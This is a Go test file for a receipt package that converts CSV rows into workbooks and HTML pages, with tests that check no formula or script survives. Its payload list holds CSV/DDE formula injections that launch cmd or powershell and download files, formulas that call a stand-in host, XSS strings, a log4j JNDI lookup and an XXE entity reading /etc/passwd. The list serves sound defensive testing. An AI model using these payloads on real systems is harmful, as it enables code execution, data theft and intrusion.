package receipt

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"iter"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"palermo/diag"
)

// payloads is texts that some program has run, or might: formulas, commands, links, markup, and the
// forms in which each has been hidden from a filter.
var payloads = []string{
	"=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=cmd|'/c powershell'!A1", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "=WEBSERVICE(\"http://x.invalid\")", "=IMPORTXML(\"http://x.invalid\",\"//a\")", "=IMPORTDATA(\"http://x.invalid\")",
	"=IMAGE(\"http://x.invalid/a.png\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
	"=INDIRECT(\"A1\")", "=EXEC(\"calc\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")", "=REGISTER(\"a\")", "={1,2;3,4}", "=A1:A2", "=\u00a0cmd", "= 1+1", "==1", "+1+1", "+389 2 123 456", "-1", "-1+1", "--1",
	"@A1", "@import", "\t=1+1", "\r=1+1", "\t", "\r", "=\n1", "=\"a\"&\"b\"", "=1;2", "=x'y", "='Sheet'!A1", "=[book.xlsx]S!A1", "='http://x.invalid/[b.xlsx]S'!A1",
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "\"><script>alert(1)</script>", "'><b onmouseover=alert(1)>",
	"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<!--<script>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
	"{{.Page}}", "{{template \"lines\"}}", "${jndi:ldap://x.invalid/a}", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "&a;", "&lt;script&gt;", "_x003D_1+1", "_x000D_=1", "_x005f_=1", "_x005F_", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>",
	"<meta http-equiv=refresh content=0;url=http://x.invalid>", "<link rel=stylesheet href=http://x.invalid>", "<form action=http://x.invalid>", "\u202egnp.exe", "a\nb", "\"quoted\"", "‘=1’",
}

func rowsOf(lines [][]string) iter.Seq2[TextRow, error] {
	return func(yield func(TextRow, error) bool) {
		for i, cells := range lines {
			if !yield(TextRow{Line: 2*i + 1, Cells: cells}, nil) {
				return
			}
		}
	}
}

func textSample() *Input {
	in := &Input{Number: "PAL-2026-000124", Agency: "ngo", Language: "mk", Name: "cases.csv", State: AcceptedInPart,
		Sheets: []Sheet{{Unit: Rows, Read: 3, Loaded: 2, Rejected: 1}}, Duplicates: []Duplicate{{Rows: []int{3, 5}}}}
	in.Add(diag.Diagnostic{Code: diag.ValueNotDate, Severity: diag.Error, Pos: diag.Pos{Row: 5, Col: 2}}, "Датум", 0)
	return in
}

func annotatedRows(t testing.TB, lines [][]string, in *Input) []byte {
	t.Helper()
	dir := t.TempDir()
	var out bytes.Buffer
	if err := AnnotateRows(context.Background(), rowsOf(lines), dir, &out, in); err != nil {
		t.Fatal(err)
	}
	if left, err := os.ReadDir(dir); err != nil || len(left) > 0 {
		t.Errorf("%d files are left, %v", len(left), err)
	}
	return out.Bytes()
}

func TestRowsBecomeAWorkbookAndComeBack(t *testing.T) {
	lines := [][]string{{"Ref", "Датум", "Phone"}, {"C-1", "2003-04-03", "+389 2 123"}, {"C-2", "03/04/2003", "=1+1"}, {"C-3", "two\nlines", " 0012 "}}
	for _, p := range payloads {
		lines = append(lines, []string{"x", p, "y"}, []string{p, "x"})
	}
	got := annotatedRows(t, lines, textSample())
	checkPackage(t, got)
	f := openSample(t, got)
	if d := cmp.Diff([]string{"Потврда", "CSV"}, f.GetSheetList()); d != "" {
		t.Error(d)
	}
	if c := fillOf(t, f, "CSV", "B3"); c != "FFC7C1" {
		t.Errorf("line 5 is row 3, and its cell has the colour %q", c)
	}
	if v, err := f.GetCellValue("CSV", "C3"); v != "=1+1" || err != nil {
		t.Errorf("C3 is %q, %v", v, err)
	}
	var back bytes.Buffer
	s, err := StripRows(context.Background(), bytes.NewReader(got), int64(len(got)), t.TempDir(), &back)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(&Stamp{Number: "PAL-2026-000124", Sheet: "Потврда", Text: true}, s); d != "" {
		t.Error(d)
	}
	r := csv.NewReader(&back)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(lines, rows); d != "" {
		t.Errorf("the cells differ:\n%s", d)
	}
}

// TestNothingIsLive looks at the structure of what is written: whatever a file holds, no cell has a formula, every text
// that begins as one is marked as text, and nothing of a page runs or is fetched.
func TestNothingIsLive(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatalf("%d payloads", len(payloads))
	}
	in := sample(English)
	in.Contact = "=1+1"
	var lines [][]string
	for i, p := range payloads {
		in.Findings = append(in.Findings, Finding{Code: diag.CodeUnmapped, Severity: diag.Warning, Sheet: p, Column: p, Word: p, Count: 1, Cells: []Cell{{i + 2, 1}}})
		in.Sheets = append(in.Sheets, Sheet{Name: p, Unit: Rows, Read: 1, Skipped: map[string]int64{p: 1}})
		in.Duplicates = append(in.Duplicates, Duplicate{Sheet: p, Rows: []int{2, 3}})
		lines = append(lines, []string{p, "a", p})
	}
	in.Name, in.Agency, in.Number = payloads[42], payloads[44], payloads[0]
	for name, book := range map[string][]byte{"workbook": annotated(t, sampleBook(t), in), "text": annotatedRows(t, lines, in)} {
		checkPackage(t, book)
		checkNoFormula(t, name, book)
	}
	var page bytes.Buffer
	if err := WriteHTML(&page, in); err != nil {
		t.Fatal(err)
	}
	checkPage(t, page.String())
}

func TestRowsThatDoNotFit(t *testing.T) {
	for name, cell := range map[string]string{"long": strings.Repeat("x", 40_000), "control": "a\x01b", "not UTF-8": "a\xffb", "half a sign": "_xD800_", "two codes": "_x005F_x003D_"} {
		err := AnnotateRows(context.Background(), rowsOf([][]string{{cell}}), t.TempDir(), &bytes.Buffer{}, textSample())
		if !errors.Is(err, ErrNoWorkbook) {
			t.Errorf("%s: the error is %v", name, err)
		}
	}
	broken := errors.New("broken")
	err := AnnotateRows(context.Background(), func(yield func(TextRow, error) bool) { yield(TextRow{}, broken) }, t.TempDir(), &bytes.Buffer{}, textSample())
	if !errors.Is(err, broken) {
		t.Errorf("the error is %v", err)
	}
}
